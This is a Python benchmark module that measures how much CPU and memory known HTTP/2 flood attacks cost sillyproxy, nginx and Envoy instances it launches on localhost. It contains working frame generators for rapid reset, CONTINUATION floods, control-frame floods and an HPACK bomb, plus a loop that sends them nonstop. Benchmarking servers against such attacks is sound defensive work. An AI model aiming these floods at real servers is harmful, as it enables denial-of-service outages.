"""
What the known attacks on HTTP/2 cost: `python -m bench.floods [--seconds S] [--out FILE]`.

One client sends one kind of frames as fast as it is let, over a connection at a time, and connects again
when it is cut off. Of each subject: CPU time used while it did, as a share of one CPU; the memory it grew
by; how often it cut the client off; how much it had taken.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import socket
import struct
import tempfile
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass
from pathlib import Path

from bench import machine
from bench.process import BrokenError, Process
from bench.protocols import STARTERS, make_keys, origins
from bench.subjects import Job

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
SUBJECTS = ("sillyproxy", "nginx", "Envoy")
_ENOUGH_BYTES = 1 << 16


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


# GET / of bench.example, and the same as POST; nothing enters a table (RFC 7541, 6.2.2).
GET = b"\x82\x86\x84\x01\x0dbench.example"
POST = b"\x83\x86\x84\x01\x0dbench.example"
LARGE = b"\x00\x01a\x7f\x81\x3e" + b"b" * 8128


def _streams(make: Callable[[int], bytes]) -> Iterator[bytes]:
    for number in range(1, 1 << 30, 2):
        yield make(number)


def _forever(first: bytes, then: bytes) -> Iterator[bytes]:
    yield first
    while True:
        yield then


BOMB = b"\x40\x01a\x7f\x81\x1e" + b"x" * 4032
FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid reset": lambda: _streams(
        lambda n: frame(HEADERS, 5, n, GET) + frame(RST_STREAM, 0, n, struct.pack(">I", 8))
    ),
    "made you reset": lambda: _streams(
        lambda n: frame(HEADERS, 5, n, GET) + frame(WINDOW_UPDATE, 0, n, bytes(4))
    ),
    "CONTINUATION": lambda: _forever(frame(HEADERS, 1, 1, GET), frame(CONTINUATION, 0, 1, LARGE)),
    "empty CONTINUATION": lambda: _forever(frame(HEADERS, 1, 1, GET), frame(CONTINUATION, 0, 1)),
    "SETTINGS": lambda: _forever(b"", frame(SETTINGS, 0, 0)),
    "PING": lambda: _forever(b"", frame(PING, 0, 0, bytes(8))),
    "PRIORITY": lambda: _forever(b"", frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")),
    "empty DATA": lambda: _forever(frame(HEADERS, 4, 1, POST), frame(DATA, 0, 1)),
    "HPACK bomb": lambda: _streams(
        lambda n: frame(HEADERS, 5, n, GET + (BOMB if n == 1 else b"") + b"\xbe" * 4000)
    ),
}


@dataclass
class Figure:
    flood: str
    subject: str
    cpu_percent: float
    memory_kib: float
    cut_off: int
    taken_kib: float


def attack(flood: Callable[[], Iterator[bytes]], port: int, seconds: float) -> tuple[int, int]:
    """Flood; return how often we were cut off, and how many bytes were taken."""
    end = time.monotonic() + seconds
    cuts = taken = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1) as sock:
            sock.settimeout(0.2)
            frames = flood()
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            while time.monotonic() < end:
                batch = b""
                while len(batch) < _ENOUGH_BYTES:
                    batch += next(frames)
                while batch and time.monotonic() < end:
                    sent = 0
                    with contextlib.suppress(TimeoutError):
                        sent = sock.send(batch)
                    taken += sent
                    batch = batch[sent:]
                    with contextlib.suppress(BlockingIOError):
                        while True:
                            if not sock.recv(1 << 16, socket.MSG_DONTWAIT):
                                raise ConnectionResetError
        cuts += time.monotonic() < end
    return cuts, taken


def run(seconds: float) -> list[Figure]:
    """Measure all of it."""
    mine, others = machine.share_cpus(set(range(os.cpu_count() or 1)), 1)
    figures = []
    with tempfile.TemporaryDirectory() as name:
        directory = Path(name)
        keys = make_keys(directory)
        with origins(directory, others, grpc=False) as (blue, green):
            for flood, make in FLOODS.items():
                for subject in SUBJECTS:
                    with tempfile.TemporaryDirectory(dir=directory) as home:
                        port, tls_port = machine.find_port(), machine.find_port()
                        launch = STARTERS[subject](
                            Job(port, blue, green, 1, Path(home)), keys, tls_port, False
                        )
                        with Process(launch.command, mine, Path(home) / "log", launch.environment) as process:
                            process.wait_listening(port)
                            time.sleep(1.0)
                            attack(FLOODS["PING"], port, 0.3)  # what it takes once
                            before = machine.read_clocks(process.pid)
                            memory = machine.read_rss_bytes(process.pid)
                            cuts, taken = attack(make, port, seconds)
                            spent = machine.subtract_clocks(before, machine.read_clocks(process.pid))
                            grown = machine.read_rss_bytes(process.pid) - memory
                            busy_us = sum(cpu.total_us for cpu in spent.values())
                    figure = Figure(flood, subject, busy_us / seconds / 1e4, grown / 1024, cuts, taken / 1024)
                    figures.append(figure)
                    print(
                        f"{flood:20} {subject:11} {figure.cpu_percent:5.0f} % {figure.memory_kib:8.0f} KiB "
                        f"{cuts:6} cut off {figure.taken_kib:10.0f} KiB taken",
                        flush=True,
                    )
    return figures


def main() -> None:
    """Run from the command line."""
    parser = argparse.ArgumentParser(prog="python -m bench.floods", description=__doc__)
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--out", type=Path)
    options = parser.parse_args()
    try:
        figures = run(options.seconds)
    except BrokenError as error:
        raise SystemExit(str(error)) from None
    if options.out:
        result = {"machine": machine.describe(1), "figures": [asdict(figure) for figure in figures]}
        options.out.write_text(json.dumps(result, indent=1) + "\n")


if __name__ == "__main__":
    main()
